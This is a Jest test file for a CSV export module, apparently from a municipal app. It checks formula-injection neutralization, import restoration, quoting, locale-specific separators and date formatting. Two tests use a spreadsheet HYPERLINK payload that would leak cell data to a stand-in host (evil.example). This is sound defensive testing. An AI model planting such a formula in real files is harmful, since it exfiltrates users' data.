import { CSV_BOM, neutralizeCsvCell, restoreCsvCell, spreadsheetCsv, spreadsheetDateTime, spreadsheetDay, writeCsv } from './csv';

describe('a CSV cell', () => {
  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ['a plus sign', '+1+1', "'+1+1"],
    ['a minus sign', '-2+3', "'-2+3"],
    ['text that looks like a negative number', '-5', "'-5"],
    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab', '\t=1+1', "'\t=1+1"],
    ['a carriage return', '\r=1+1', "'\r=1+1"],
  ])('starting with %s is shown as text, behind a single quote', (_case, value, expected) => {
    expect(neutralizeCsvCell(value)).toBe(expected);
  });

  it.each([
    ['plain text', 'Agua potable para San Felipe', 'Agua potable para San Felipe'],
    ['a sign inside the text', 'Meta 1 = 100 %', 'Meta 1 = 100 %'],
    ['a leading space', ' =1', ' =1'],
    ['an empty text', '', ''],
    ['a negative number', -5, -5],
    ['a positive number', 12.5, 12.5],
    ['a boolean', true, true],
    ['nothing', null, null],
  ])('with %s is left as it is', (_case, value, expected) => {
    expect(neutralizeCsvCell(value)).toBe(expected);
  });
});

describe('a CSV cell read back (import)', () => {
  it.each([
    ['a neutralized formula', "'=1+1", '=1+1'],
    ['a neutralized phone number', "'+507 6000-0001", '+507 6000-0001'],
    ['a quote before plain text', "'hola", "'hola"],
    ['plain text', 'hola', 'hola'],
    ['a lone quote', "'", "'"],
  ])('with %s reads as what was written', (_case, text, expected) => {
    expect(restoreCsvCell(text)).toBe(expected);
  });

  it('undoes exactly what writing did', () => {
    for (const text of ['=1', '+1', '-1', '@a', '\t1', '\r1', 'a', "'b", ''] as const) expect(restoreCsvCell(String(neutralizeCsvCell(text)))).toBe(text);
  });
});

describe('a CSV file', () => {
  it('has a header line and one line per row, CRLF, with numbers and booleans as written and nothing empty', () => {
    expect(writeCsv([{ code: 'M-01', current: -5, isPublic: true, unit: null }])).toBe('code,current,isPublic,unit\r\nM-01,-5,true,');
  });

  it('neutralizes formulas in every text cell, and quotes what would split the cell', () => {
    const csv = writeCsv([{ title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', note: 'uno; =1+1', code: '-5' }]);
    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","uno; =1+1",'-5`);
  });

  it('takes the columns given, in their order, and the keys of every row otherwise', () => {
    expect(writeCsv([{ b: 1 }, { a: 2 }])).toBe('b,a\r\n1,\r\n,2');
    expect(writeCsv([{ a: 1, b: 2 }], ['b', 'a'])).toBe('b,a\r\n2,1');
  });

  it('writes lists and objects as JSON, and dates as ISO instants', () => {
    expect(writeCsv([{ ids: ['x', 'y'], at: new Date('2026-03-07T09:30:00Z') }])).toBe('ids,at\r\n"[""x"",""y""]",2026-03-07T09:30:00.000Z');
  });

  it('reads no inherited key as a column value', () => {
    expect(writeCsv([{}], ['constructor', 'toString'])).toBe('constructor,toString\r\n,');
  });
});

describe('a file for people (a list or report exported for a spreadsheet)', () => {
  const columns = [
    { key: 'title', label: 'Título' },
    { key: 'progress', label: 'Avance' },
    { key: 'note', label: 'Nota' },
  ];
  const rows = [{ title: 'Reparar luminarias', progress: 37.5, note: '=1+1' }];

  it('starts with the byte-order mark, heads each column with its label and, in Spanish, separates by semicolons with a decimal comma', () => {
    expect(spreadsheetCsv(rows, columns, 'es')).toBe(`${CSV_BOM}Título;Avance;Nota\r\nReparar luminarias;"37,5";'=1+1`);
  });

  it('in English, separates by commas with a decimal point', () => {
    expect(spreadsheetCsv(rows, columns, 'en')).toBe(`${CSV_BOM}Título,Avance,Nota\r\nReparar luminarias,37.5,'=1+1`);
  });

  it('keeps a negative number a number, whatever the decimal mark', () => {
    expect(spreadsheetCsv([{ n: -2.5 }], [{ key: 'n', label: 'N' }], 'es').split('\r\n')[1]).toBe('"-2,5"');
  });

  it('reads only the keys of the columns, own keys only', () => {
    expect(spreadsheetCsv([{ a: 1, b: 2 }], [{ key: 'b', label: 'B' }, { key: 'toString', label: 'T' }], 'en')).toBe(`${CSV_BOM}B,T\r\n2,`);
  });
});

describe('dates for a spreadsheet', () => {
  it('writes a calendar day day-first in Spanish and month-first in English, whatever follows the day', () => {
    expect(spreadsheetDay('2026-11-03', 'es')).toBe('03/11/2026');
    expect(spreadsheetDay('2026-11-03T00:00:00.000Z', 'en')).toBe('11/03/2026');
  });

  it('leaves what is not a day as it is', () => {
    expect(spreadsheetDay('mañana', 'es')).toBe('mañana');
  });

  it("writes an instant on the municipality's clock, the day before in UTC terms when it is late evening there", () => {
    const instant = new Date('2026-11-24T04:27:00Z');
    expect(spreadsheetDateTime(instant, 'es', 'America/Panama')).toBe('23/11/2026 23:27');
    expect(spreadsheetDateTime(instant, 'en', 'America/Panama')).toBe('11/23/2026 11:27 PM');
  });

  it('writes midnight as 00 in Spanish and 12 AM in English, with plain spaces only', () => {
    const midnight = new Date('2026-03-07T05:00:00Z');
    expect(spreadsheetDateTime(midnight, 'es', 'America/Panama')).toBe('07/03/2026 00:00');
    expect(spreadsheetDateTime(midnight, 'en', 'America/Panama')).toBe('03/07/2026 12:00 AM');
  });

  it('writes nothing for an invalid instant', () => {
    expect(spreadsheetDateTime(new Date('x'), 'es', 'America/Panama')).toBe('');
  });
});
